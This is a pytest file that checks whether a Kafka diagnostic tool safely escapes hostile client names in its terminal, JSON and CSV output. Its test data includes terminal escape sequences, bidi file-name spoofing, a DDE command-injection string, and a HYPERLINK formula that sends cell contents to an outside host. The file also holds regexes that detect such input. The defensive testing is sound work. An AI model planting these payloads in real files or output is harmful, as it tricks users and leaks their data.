"""Names from the wire, in every form that programs read: they do no more than name something."""

import csv
import io
import json
import re
from pathlib import Path

import pytest

from kdiag.wire.api.heartbeat import HeartbeatRequest, HeartbeatResponse
from programs.kdiag_program import kdiag
from recordings.exchange_maker import capture_of, request_bytes, response_bytes
from tiers.cases import for_each

NAMES = (
    "esc\x1b[31mred",
    "osc\x1b]0;title\x07",
    "c1\x9b31m",
    "bidi\u202egnp.exe",
    "isolate\u2066x\u2069",
    "mark\u200e\u061c",
    "del\x7f",
    "line\nbreak",
    "next\x85line",
    "sep\u2028x\u2029y",
    '=HYPERLINK("http://example.org/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\tx",
    "Αθήνα",
    "Москва",
    "北京",
)
HARMFUL = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
)
FORMULA = re.compile(r"[=+\-@\t\r]")
SQL = "SELECT client_id, list(api) AS apis FROM exchanges GROUP BY client_id"


@pytest.fixture(scope="module")
def capture(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a capture in which each name is a client id and a group."""
    frames = [(False, request_bytes(HeartbeatRequest(group_id="first"), 3, client_id="app"))]
    frames.append((True, response_bytes(HeartbeatResponse(), 3)))
    for number, name in enumerate(NAMES, 100):
        request = HeartbeatRequest(group_id=name, member_id=name)
        kept = {"correlation_id": number}
        frames.append((False, request_bytes(request, 3, client_id=name, **kept)))
        frames.append((True, response_bytes(HeartbeatResponse(), 3, **kept)))
    file = tmp_path_factory.mktemp("names") / "names.pcap"
    file.write_bytes(capture_of(frames))
    return file


@pytest.mark.thorough
@for_each("name", [*NAMES, "\x1b", "\0"])
def test_the_first_client_id_hides_no_connection(name: str, tmp_path: Path) -> None:
    """Brokers accept any text, and so does kdiag; it is escaped where it is shown."""
    frames = [(False, request_bytes(HeartbeatRequest(group_id="a"), 3, client_id=name))]
    file = tmp_path / "first.pcap"
    file.write_bytes(capture_of([*frames, (True, response_bytes(HeartbeatResponse(), 3))]))

    lines, text = kdiag("decode", file, "-o", "jsonl"), kdiag("decode", file).out
    assert json.loads(lines.out.splitlines()[0])["client_id"] == name
    assert "Heartbeat" in text
    assert not HARMFUL.search(text)
    assert not HARMFUL.search(kdiag("decode", file, "--summary").out)


@pytest.mark.thorough
@pytest.mark.parametrize("form", ["json", "jsonl"])
def test_json_holds_every_name_and_nothing_that_a_terminal_obeys(form: str, capture: Path) -> None:
    """Letters of all scripts can be read without a parser."""
    done = kdiag("decode", capture, "-o", form)
    lines = done.out.splitlines() if form == "jsonl" else [done.out]
    documents = [json.loads(line) for line in lines]
    found = documents[0]["exchanges"] if form == "json" else documents

    assert done.code == 0
    assert {each.get("client_id") for each in found} >= set(NAMES)
    assert not HARMFUL.search(done.out)
    assert all(name in done.out for name in NAMES[-3:])


@pytest.mark.thorough
@pytest.mark.parametrize(
    "arguments", [("decode",), ("report", "clients"), ("query", SQL)], ids=lambda each: each[0]
)
def test_cells_hold_every_name_harmlessly_and_as_no_formula(
    arguments: tuple[str, ...], capture: Path
) -> None:
    """All commands write them alike."""
    command, *rest = arguments
    words = (command, capture, *rest) if command == "query" else (command, *rest, capture)
    plain = kdiag(*words, "-o", "csv").out
    safe = kdiag(*words, "-o", "csv", "--csv-safe").out

    rows = list(csv.DictReader(io.StringIO(plain)))
    assert len(plain.splitlines()) == len(rows) + 1
    assert not HARMFUL.search(plain)
    found = {each["client_id"] for each in rows}
    assert found >= {r"esc\x1b[31mred", r"bidi\u202egnp.exe", r"sep\u2028x\u2029y", r"\x09x"}
    assert found >= {"=HYPERLINK" + NAMES[10][10:], "-2+3", "Αθήνα", "北京"}
    cells = [cell for row in csv.reader(io.StringIO(safe)) for cell in row]
    assert not [cell for cell in cells if FORMULA.match(cell)]
    assert {"'-2+3", "'@SUM(1)", "Москва"} <= set(cells)
